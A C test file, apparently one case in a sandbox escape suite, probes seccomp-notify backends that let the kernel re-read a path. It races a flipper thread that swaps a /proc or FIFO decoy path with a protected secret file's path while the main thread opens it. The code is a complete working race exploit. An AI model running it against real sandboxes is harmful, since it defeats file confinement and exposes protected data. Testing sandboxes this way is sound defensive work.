/*
 * Vector 3, for the opens a backend leaves to the kernel. seccomp-notify
 * opens most files itself (the file decided is the file opened), but answers
 * CONTINUE for what only the caller can open: /proc paths, /dev/tty, a FIFO.
 * The kernel then reads the path again from the caller's memory. A second
 * thread flips the buffer between such a path and <root>/protected/secret.txt
 * (same length) while the main thread opens it: one of the two openers is
 * /proc/self/<dots>/comm, the other a FIFO in work/ opened O_RDWR (never
 * blocks). A backend that continues a call whose path another thread can
 * still rewrite loses.
 * expect: ptrace_file
 * expect-match: protected
 */
#include "esc.h"
#include <pthread.h>
#include <stdatomic.h>
#include <sys/stat.h>

static char path[4096];
static char decoy[4096], target[4096];
static size_t len;
static atomic_bool stop;

static void *flipper(void *arg)
{
	(void)arg;
	while (!atomic_load_explicit(&stop, memory_order_relaxed)) {
		memcpy(path, decoy, len);
		memcpy(path, target, len);
	}
	return NULL;
}

/* The same length as the target: "/proc/self/" "./"... "comm", or a FIFO name padded with x. */
static void make_decoy(bool fifo)
{
	if (fifo) {
		const char *dir = esc_work();
		size_t n = strlen(dir) + 1;

		if (n + 2 > len)
			esc_broken("work dir name too long");
		snprintf(decoy, sizeof(decoy), "%s/", dir);
		memset(decoy + n, 'x', len - n);
		decoy[len] = 0;
		if (mkfifo(decoy, 0666) < 0 && errno != EEXIST)
			esc_broken("mkfifo %s: %s", decoy, strerror(errno));
		return;
	}
	size_t n = strlen("/proc/self/"), tail = strlen("comm");
	snprintf(decoy, sizeof(decoy), "/proc/self/");
	if ((len - n - tail) % 2)
		decoy[n++] = '/';
	while (n + tail < len) {
		memcpy(decoy + n, "./", 2);
		n += 2;
	}
	memcpy(decoy + n, "comm", tail + 1);
}

static bool race(bool fifo, double secs)
{
	pthread_t t;
	long tries = 0;

	make_decoy(fifo);
	memcpy(path, decoy, len + 1);
	atomic_store(&stop, false);
	pthread_create(&t, NULL, flipper, NULL);
	double end = esc_now() + secs;
	while (esc_now() < end) {
		tries++;
		int fd = openat(AT_FDCWD, path, fifo ? O_RDWR : O_RDONLY);
		struct stat st;

		/* Reading the FIFO would block: only a regular file can be the secret. */
		if (fd >= 0 && fstat(fd, &st) == 0 && S_ISREG(st.st_mode) && esc_fd_has_secret(fd)) {
			atomic_store(&stop, true);
			pthread_join(t, NULL);
			printf("%s decoy: won after %ld opens\n", fifo ? "FIFO" : "/proc", tries);
			return true;
		}
		if (fd >= 0)
			close(fd);
	}
	atomic_store(&stop, true);
	pthread_join(t, NULL);
	printf("%s decoy: %ld opens, never the secret\n", fifo ? "FIFO" : "/proc", tries);
	return false;
}

int main(void)
{
	snprintf(target, sizeof(target), "%s/secret.txt", esc_protected());
	len = strlen(target);
	bool won = race(false, 3);
	won = race(true, 3) || won;
	if (won)
		esc_success("the kernel re-read a path the other thread had rewritten");
	esc_blocked("never read the secret");
}
